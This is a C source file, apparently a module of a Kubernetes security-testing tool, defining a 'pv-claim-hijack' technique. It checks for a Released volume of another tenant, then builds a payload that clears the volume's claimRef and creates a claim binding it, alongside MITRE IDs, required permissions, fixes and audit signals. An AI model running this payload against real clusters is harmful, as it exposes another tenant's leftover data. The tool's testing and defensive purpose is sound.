// A Released volume keeps its claimRef until somebody clears it; then a claim that names the volume gets it with its content. A
// volume that is Available belonged to nobody as far as the objects show.
#include "attack/technique.h"
#include "attack/technique/build.h"

static enum verdict when(const struct snapshot *s, uint32_t ns, const span *names, size_t n_names, enum unknown *why)
{
	(void)names, (void)n_names;
	snapshot_each(r, s, GK_PERSISTENT_VOLUME) {
		const value *root = snapshot_object(s, r)->root;
		span phase = value_span(value_at(root, 2, KEY_status, KEY_phase)), owner = value_span(value_at(root, 3, KEY_spec, KEY_claimRef, KEY_namespace));
		if (!span_is(phase, "Released") || !owner.n)
			continue;
		uint32_t theirs = snapshot_ns(s, owner);
		if (ns == NS_CLUSTER || theirs == NS_CLUSTER || s->ns[theirs].tenant != s->ns[ns].tenant)
			return VERDICT_ALLOW;
	}
	if (snapshot_present(s, GK_PERSISTENT_VOLUME))
		return VERDICT_DENY;
	*why = UNKNOWN_object;
	return VERDICT_UNKNOWN;
}

static bool body(struct payload *p)
{
	if (p->alternative > 0) {
		if (p->object.type != VALUE_OBJECT)
			return false;
		build_del(p, "spec.claimRef");
		return true;
	}
	p->object = build_doc(p, "{apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: {name: ?, namespace: ?}, spec: {"
		"accessModes: ['ReadWriteOnce'], storageClassName: '', volumeName: 'bulkhead-probe', resources: {requests: {storage: '1Gi'}}}}",
		build_name(p), build_ns(p));
	return true;
}

const struct technique technique_pv_claim_hijack = {
	.id = "pv-claim-hijack",
	.title = "Bind the volume of another tenant",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY,
	.attack = "T1530,T1213",
	.matrix = "",
	.needs =
		"create on persistentvolumeclaims and patch or update on persistentvolumes, with a Released volume of another "
		"tenant left behind",
	.gives = "the data that another tenant left on the volume",
	.fixes =
		"Use reclaim policy Delete\n"
		"Remove patch and update on persistentvolumes",
	.audit = "patch of spec.claimRef of persistentvolumes; create of persistentvolumeclaims with volumeName",
	.source = "kubernetes.io docs concepts/storage/persistent-volumes, reserving and reclaiming",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_TRAFFIC,
	.grant = {
		{ "create", "", "persistentvolumeclaims" },
		{ "patch|update", "", "persistentvolumes", .scope = SCOPE_CLUSTER },
	},
	.when = when,
	.body = body,
};
